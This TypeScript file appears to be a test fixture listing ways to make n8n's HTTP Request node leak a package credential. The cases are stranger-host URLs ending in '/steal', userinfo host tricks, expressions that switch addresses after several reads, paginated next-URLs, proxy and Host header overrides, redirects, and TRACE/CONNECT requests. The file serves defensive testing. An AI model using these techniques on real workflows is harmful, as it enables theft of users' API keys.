import type { INodeParameters } from 'n8n-workflow';

/**
 * What somebody may do who edits a workflow in which n8n's own HTTP Request node has a credential of this package:
 * each tries to bring the key to a stranger, or to have it back in the node's output.
 */
export interface HttpRequestAttack {
	name: string;
	/** The node's parameters, besides the credential. `own`: the origin of the base URL. */
	parameters(own: string, stranger: string): INodeParameters;
}

/** Reads as one address the first times, and as another one from then on. */
const turning = (own: string, stranger: string, times: number) =>
	`={{ ((c) => ({ toString: () => (c.push(1) <= ${times} ? "${own}/a" : "${stranger}/b") }))([]) }}`;

const paged = (pagination: INodeParameters): INodeParameters => ({
	options: { pagination: { pagination: { paginationCompleteWhen: 'other', completeExpression: '={{ $pageCount > 1 }}', requestInterval: 0, limitPagesFetched: true, maxRequests: 3, ...pagination } } },
});

/** "Update a Parameter in Each Request"; what else than these types there is, a workflow's JSON may say. */
const updated = (type: string, name: string, value: string) =>
	paged({ paginationMode: 'updateAParameterInEachRequest', parameters: { parameters: [{ type, name, value }] } });

const hostAndPort = (url: string): Array<[string, string]> => {
	const { hostname, port } = new URL(url);
	return [['host', hostname], ['hostname', hostname], ['port', port]];
};

const header = (name: string, value: string): INodeParameters => ({ sendHeaders: true, specifyHeaders: 'keypair', headerParameters: { parameters: [{ name, value }] } });

export const HTTP_REQUEST_ATTACKS: HttpRequestAttack[] = [
	{ name: 'the address of a stranger', parameters: (_, stranger) => ({ url: `${stranger}/steal` }) },
	{ name: 'an expression that names a stranger', parameters: (_, stranger) => ({ url: `={{ "${stranger}" + "/steal" }}` }) },
	{ name: 'the own host as a user name', parameters: (own, stranger) => ({ url: `http://${new URL(own).host}@${new URL(stranger).host}/steal` }) },
	...[1, 2, 3, 4, 5].map((times) => ({
		name: `an address that turns into a stranger's after it was read ${times} times`,
		parameters: (own: string, stranger: string) => ({ url: turning(own, stranger, times) }),
	})),
	{ name: 'a next page at a stranger', parameters: (own, stranger) => ({ url: `${own}/a`, ...paged({ paginationMode: 'responseContainsNextURL', nextURL: `={{ "${stranger}/page" }}` }) }) },
	...[1, 2, 3, 4, 5].map((times) => ({
		name: `a next page that turns into a stranger's after it was read ${times} times`,
		parameters: (own: string, stranger: string) => ({ url: `${own}/a`, ...paged({ paginationMode: 'responseContainsNextURL', nextURL: turning(own, stranger, times) }) }),
	})),
	// each by itself, since a field that n8n knows is set by its own rules
	...['agentOptions', 'proxy', 'lookup', 'auth'].map((type) => ({
		name: `a parameter of the type '${type}' that is updated in each request`,
		parameters: (own: string, stranger: string) => ({
			url: `${own}/a`,
			...paged({ paginationMode: 'updateAParameterInEachRequest', parameters: { parameters: hostAndPort(stranger).map(([name, value]) => ({ type, name, value })) } }),
		}),
	})),
	{ name: 'a header Host that is updated in each request', parameters: (own, stranger) => ({ url: `${own}/a`, ...updated('headers', 'Host', new URL(stranger).host) }) },
	{ name: 'a header Host', parameters: (own, stranger) => ({ url: `${own}/a`, ...header('Host', new URL(stranger).host) }) },
	{ name: 'a proxy', parameters: (own, stranger) => ({ url: `${own}/a`, options: { proxy: stranger } }) },
	{ name: 'a redirect', parameters: (own) => ({ url: `${own}/away`, options: { redirect: { redirect: { followRedirects: true, maxRedirects: 5 } } } }) },
	{ name: 'TRACE, which answers with what it was asked', parameters: (own) => ({ url: `${own}/a`, method: 'TRACE' }) },
	{ name: 'CONNECT, which makes a tunnel', parameters: (own) => ({ url: `${own}/a`, method: 'CONNECT' }) },
];
